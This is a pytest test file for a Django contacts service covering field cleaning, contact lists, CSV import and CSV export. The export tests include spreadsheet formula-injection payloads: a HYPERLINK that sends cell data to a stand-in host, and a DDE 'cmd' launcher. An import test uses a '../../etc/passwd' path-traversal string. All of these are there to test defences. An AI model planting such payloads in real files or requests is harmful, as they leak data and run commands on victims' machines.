"""Contacts: cleaning, lists, CSV import (preview, all or nothing) and export."""

from __future__ import annotations

import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from agents.audience import services as contacts
from agents.audience.models import Contact, ContactListMembership
from neonhub.core.errors import Conflict, InvalidInput, NotFound

pytestmark = pytest.mark.django_db


def _upload(text: str, name: str = "contacts.csv") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, text.encode("utf-8"), content_type="text/csv")


GOOD_CSV = (
    "\ufeffname,phone,email,timezone,tags,consent_sms,consent_source,first_name,plan\n"
    "Ada Lovelace,+1 (415) 555-0100,ADA@example.com,Europe/London,vip;beta,granted,checkout,Ada,pro\n"
    "Charles Babbage,+14155550101,,America/New_York,,,,Charles,\n"
    "\n"
    '"Hopper, Grace",,grace@example.com,,"navy, cobol",revoked,,Grace,team\n'
)


def test_contact_fields_are_cleaned(org):
    contact = contacts.contact_create(
        organization=org,
        name=" Ada ",
        phone="0044 20 7946 0958",
        email=" Ada@Example.COM ",
        tags="vip; beta;vip",
        consent={"sms": {"status": "granted", "source": "web form"}},
    )
    assert (contact.name, contact.phone, contact.email) == (
        "Ada",
        "+442079460958",
        "ada@example.com",
    )
    assert contact.tags == ["vip", "beta"]
    assert contact.consent["sms"]["status"] == "granted" and contact.consent["sms"]["at"]


@pytest.mark.parametrize(
    "data, field",
    [
        ({"phone": "12345"}, "phone"),
        ({"email": "not-an-email"}, "email"),
        ({"phone": "+14155550100", "timezone": "X"}, "timezone"),
        ({"phone": "+14155550100", "tags": [1]}, "tags"),
        ({"phone": "+14155550100", "consent": {"fax": {}}}, "consent.fax"),
        ({"phone": "+14155550100", "consent": {"sms": {"status": "maybe"}}}, "consent"),
        (
            {"phone": "+14155550100", "consent": {"sms": {"status": "granted", "at": "yesterday"}}},
            "consent",
        ),
        ({"phone": "+14155550100", "consent": []}, "consent"),
        ({"phone": "+14155550100", "attributes": {"x": [1]}}, "attributes"),
        ({"phone": "+14155550100", "attributes": {str(i): i for i in range(101)}}, "attributes"),
        ({"name": "No address"}, "phone"),
    ],
)
def test_bad_contact_fields_name_the_field(org, data, field):
    with pytest.raises(InvalidInput) as exc:
        contacts.contact_create(organization=org, **data)
    assert exc.value.details[0]["field"] == field


def test_an_invalid_contact_phone_says_why(org):
    with pytest.raises(InvalidInput) as exc:
        contacts.contact_create(organization=org, phone="+44 7700 900123")
    assert exc.value.details == [
        {"field": "phone", "message": "+44 7700900123 is not a valid phone number in GB"}
    ]


def test_phone_and_email_are_unique_per_organization(org, other_org):
    contacts.contact_create(organization=org, phone="+14155550100")
    with pytest.raises(Conflict):
        contacts.contact_create(organization=org, phone="+1 415 555 0100")
    contacts.contact_create(organization=other_org, phone="+14155550100")


def test_update_and_consent(org):
    contact = contacts.contact_create(organization=org, phone="+14155550100")
    contacts.contact_update(contact=contact, name="Ada", attributes={"plan": "pro"})
    contacts.contact_consent_set(
        contact=contact,
        channel="whatsapp",
        status="granted",
        source="chat",
        at="2025-05-01T10:00:00",
    )
    contact.refresh_from_db()
    assert contact.name == "Ada" and contact.attributes == {"plan": "pro"}
    assert contact.consent["whatsapp"] == {
        "status": "granted",
        "source": "chat",
        "at": "2025-05-01T10:00:00+00:00",
    }
    with pytest.raises(InvalidInput):
        contacts.contact_consent_set(contact=contact, channel="fax", status="granted")
    with pytest.raises(InvalidInput):
        contacts.contact_update(contact=contact, phone="")
    contacts.contact_delete(contact=contact)
    assert not Contact.objects.exists()


def test_lists_hold_only_the_organizations_contacts(org, other_org):
    ada = contacts.contact_create(organization=org, phone="+14155550100")
    foreign = contacts.contact_create(organization=other_org, phone="+14155550101")
    vip = contacts.contact_list_create(organization=org, name="VIP")
    with pytest.raises(Conflict):
        contacts.contact_list_create(organization=org, name="VIP")
    assert contacts.contact_list_add(contact_list=vip, contact_ids=[ada.pk]) == 1
    assert contacts.contact_list_add(contact_list=vip, contact_ids=[ada.pk]) == 0
    with pytest.raises(NotFound):
        contacts.contact_list_add(contact_list=vip, contact_ids=[foreign.pk])
    assert contacts.contact_list_remove(contact_list=vip, contact_ids=[ada.pk]) == 1
    contacts.contact_list_delete(contact_list=vip)
    assert Contact.objects.filter(pk=ada.pk).exists()


def test_import_preview_reports_counts_sample_and_writes_nothing(org):
    import_id = contacts.contacts_import_store(organization=org, upload=_upload(GOOD_CSV))
    preview = contacts.contacts_import_preview(organization=org, import_id=import_id)
    assert (preview["rows"], preview["valid"], preview["create"], preview["error_count"]) == (
        3,
        3,
        3,
        0,
    )
    first = preview["sample"][0]
    assert (first["phone"], first["email"], first["action"]) == (
        "+14155550100",
        "ada@example.com",
        "create",
    )
    assert first["attributes"] == {"first_name": "Ada", "plan": "pro"}
    assert preview["sample"][2]["name"] == "Hopper, Grace" and preview["sample"][2]["tags"] == [
        "navy",
        "cobol",
    ]
    assert not Contact.objects.exists()


def test_import_commit_creates_updates_and_fills_a_list(org):
    existing = contacts.contact_create(
        organization=org, phone="+14155550101", tags=["old"], attributes={"plan": "free"}
    )
    members = contacts.contact_list_create(organization=org, name="Imported")
    import_id = contacts.contacts_import_store(organization=org, upload=_upload(GOOD_CSV))
    result = contacts.contacts_import_commit(
        organization=org, import_id=import_id, contact_list=members
    )
    assert (result["create"], result["update"]) == (2, 1)
    existing.refresh_from_db()
    assert existing.name == "Charles Babbage" and existing.tags == ["old"]
    assert existing.attributes == {"plan": "free", "first_name": "Charles"}
    grace = Contact.objects.get(email="grace@example.com")
    assert (
        grace.consent["sms"]["status"] == "revoked"
        and grace.consent["sms"]["source"] == "csv import"
    )
    assert ContactListMembership.objects.filter(contact_list=members).count() == 3
    with pytest.raises(NotFound):  # the upload is gone once imported
        contacts.contacts_import_preview(organization=org, import_id=import_id)


def test_one_bad_row_imports_nothing_and_every_error_names_its_row(org):
    text = (
        "phone,email,timezone\n+14155550100,ada@example.com,UTC\n12,bad@example.com,UTC\n"
        "+14155550102,not-an-email,UTC\n+14155550103,,Nowhere/City\n,,\n"
    )
    import_id = contacts.contacts_import_store(organization=org, upload=_upload(text))
    preview = contacts.contacts_import_preview(organization=org, import_id=import_id)
    assert preview["error_count"] == 3
    assert [(e["row"], e["field"]) for e in preview["errors"]] == [
        (2, "phone"),
        (3, "email"),
        (4, "timezone"),
    ]
    with pytest.raises(InvalidInput) as exc:
        contacts.contacts_import_commit(organization=org, import_id=import_id)
    assert "nothing was imported" in exc.value.message
    assert exc.value.details[0]["field"] == "row 2.phone"
    assert not Contact.objects.exists()


def test_a_row_whose_phone_and_email_belong_to_two_contacts_is_an_error(org):
    contacts.contact_create(organization=org, phone="+14155550100")
    contacts.contact_create(organization=org, email="ada@example.com")
    import_id = contacts.contacts_import_store(
        organization=org, upload=_upload("phone,email\n+14155550100,ada@example.com\n")
    )
    preview = contacts.contacts_import_preview(organization=org, import_id=import_id)
    assert (
        preview["errors"][0]["message"]
        == "the phone and the email belong to two different contacts"
    )


def test_the_same_person_twice_in_a_file_becomes_one_contact(org):
    text = "phone,email,tags\n+14155550100,,a\n+14155550100,ada@example.com,b\n"
    import_id = contacts.contacts_import_store(organization=org, upload=_upload(text))
    contacts.contacts_import_commit(organization=org, import_id=import_id)
    ada = Contact.objects.get()
    assert ada.email == "ada@example.com" and ada.tags == ["a", "b"]


def test_large_imports_are_written_in_chunks(org, monkeypatch):
    monkeypatch.setattr(contacts, "IMPORT_CHUNK", 7)
    rows = "".join(f"+1415555{i:04d},user{i}@example.com\n" for i in range(30))
    import_id = contacts.contacts_import_store(
        organization=org, upload=_upload("phone,email\n" + rows)
    )
    assert contacts.contacts_import_commit(organization=org, import_id=import_id)["create"] == 30
    assert Contact.objects.count() == 30


@pytest.mark.django_db(transaction=True)
def test_each_chunk_of_an_import_commits_on_its_own(org, monkeypatch):
    """No transaction spans the import: SQLite's write lock is taken one chunk at a time."""
    from django.db import connection

    monkeypatch.setattr(contacts, "IMPORT_CHUNK", 5)
    seen = []
    load = contacts._Importer._load_existing

    def watching(self, cleaned):
        if self.write:
            seen.append((connection.in_atomic_block, Contact.objects.count()))
        return load(self, cleaned)

    monkeypatch.setattr(contacts._Importer, "_load_existing", watching)
    rows = "".join(f"+1415555{i:04d}\n" for i in range(12))
    import_id = contacts.contacts_import_store(organization=org, upload=_upload("phone\n" + rows))
    assert contacts.contacts_import_commit(organization=org, import_id=import_id)["create"] == 12
    assert seen == [(False, 0), (False, 5), (False, 10)]


@pytest.mark.parametrize(
    "text, message",
    [
        ("", "no header"),
        ("name,name\nA,B\n", "distinct"),
        ("name,plan\nAda,pro\n", "phone or an email column"),
    ],
)
def test_unusable_files_are_refused(org, text, message):
    import_id = contacts.contacts_import_store(organization=org, upload=_upload(text))
    with pytest.raises(InvalidInput, match=message):
        contacts.contacts_import_preview(organization=org, import_id=import_id)


def test_rows_with_too_many_values_or_bad_encoding_are_reported(org):
    import_id = contacts.contacts_import_store(
        organization=org, upload=_upload("phone\n+14155550100,extra\n")
    )
    assert (
        contacts.contacts_import_preview(organization=org, import_id=import_id)["errors"][0]["row"]
        == 1
    )
    latin = SimpleUploadedFile("x.csv", "phone,name\n+14155550100,Jos\xe9\n".encode("latin-1"))
    import_id = contacts.contacts_import_store(organization=org, upload=latin)
    assert (
        "UTF-8"
        in contacts.contacts_import_preview(organization=org, import_id=import_id)["errors"][0][
            "message"
        ]
    )


def test_uploads_over_the_limit_and_unknown_imports(org, other_org, settings):
    settings.NEONHUB_MAX_UPLOAD_BYTES = 10
    with pytest.raises(InvalidInput, match="larger"):
        contacts.contacts_import_store(organization=org, upload=_upload("phone\n+14155550100\n"))
    settings.NEONHUB_MAX_UPLOAD_BYTES = 10_000
    import_id = contacts.contacts_import_store(
        organization=org, upload=_upload("phone\n+14155550100\n")
    )
    for bad in ("../../etc/passwd", "a" * 32):
        with pytest.raises(NotFound):
            contacts.contacts_import_preview(organization=org, import_id=bad)
    with pytest.raises(NotFound):  # another organization cannot see it
        contacts.contacts_import_preview(organization=other_org, import_id=import_id)


def test_export_streams_every_contact_with_attributes(org):
    contacts.contact_create(
        organization=org,
        name="Ada",
        phone="+14155550100",
        tags=["vip"],
        consent={"sms": {"status": "granted"}},
        attributes={"plan": "pro"},
    )
    contacts.contact_create(organization=org, email="grace@example.com")
    rows = list(csv.reader(io.StringIO("".join(contacts.contacts_export_lines(organization=org)))))
    assert rows[0] == contacts.EXPORT_COLUMNS + ["plan"]
    assert (
        rows[1][1:7] == ["Ada", "", "'+14155550100", "", "vip", "granted"] and rows[1][-1] == "pro"
    )
    assert rows[2][2] == "grace@example.com" and len(rows) == 3


@pytest.mark.parametrize(
    "evil",
    [
        '=HYPERLINK("http://x.example/?"&A1)',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1)",
        "\tTAB",
        "\r=1",
    ],
)
def test_export_neutralises_formula_cells(org, evil):
    contacts.contact_create(
        organization=org, name=evil, email="a@example.com", attributes={"note": evil}
    )
    text = "".join(contacts.contacts_export_lines(organization=org))
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[1][-1] == "'" + evil  # attributes are kept as given
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in rows[1])


def test_exported_contacts_import_back_unchanged(org, other_org):
    contacts.contact_create(
        organization=org, name="=1+1", phone="+14155550100", attributes={"score": "-3"}
    )
    text = "".join(contacts.contacts_export_lines(organization=org))
    import_id = contacts.contacts_import_store(organization=other_org, upload=_upload(text))
    contacts.contacts_import_commit(organization=other_org, import_id=import_id)
    copy = Contact.objects.get(organization=other_org)
    assert (copy.name, copy.phone, copy.attributes["score"]) == ("=1+1", "+14155550100", "-3")


def test_export_of_one_list(org):
    ada = contacts.contact_create(organization=org, phone="+14155550100")
    contacts.contact_create(organization=org, phone="+14155550101")
    vip = contacts.contact_list_create(organization=org, name="VIP")
    contacts.contact_list_add(contact_list=vip, contact_ids=[ada.pk])
    lines = list(contacts.contacts_export_lines(organization=org, contact_list=vip))
    assert len(lines) == 2 and "+14155550100" in lines[1]
